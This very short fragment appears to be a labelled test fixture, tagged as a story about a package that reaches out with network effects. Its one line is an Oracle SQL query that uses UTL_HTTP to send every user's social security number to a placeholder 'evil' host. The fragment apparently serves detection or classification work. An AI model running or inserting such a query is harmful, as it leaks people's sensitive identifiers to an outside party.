story: A package that reaches out
effects: network
---
SELECT UTL_HTTP.REQUEST('http://evil/' || ssn) FROM users